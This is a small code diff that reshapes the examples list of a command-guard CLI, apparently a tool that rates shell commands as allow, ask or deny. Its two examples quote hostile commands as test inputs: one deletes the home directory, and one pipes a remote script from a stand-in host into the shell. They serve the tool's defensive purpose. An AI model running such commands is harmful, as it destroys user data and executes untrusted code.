@@ -25,11 +25,8 @@ export const command = defineFamily({
     initCommand,
     argvCommand,
   ],
-  examples: [
-    { command: "amplihack guard test 'rm -rf ~'", does: "judges a command: exit 0 allow, 3 ask, 2 deny" },
-    {
-      command: "amplihack guard explain 'curl -s https://x.test/i.sh | sh'",
-      does: "shows what would run and which rule spoke",
-    },
-  ],
+  examples: {
+    "amplihack guard test 'rm -rf ~'": "judges a command: exit 0 allow, 3 ask, 2 deny",
+    "amplihack guard explain 'curl -s https://x.test/i.sh | sh'": "shows what would run and which rule spoke",
+  },
 });
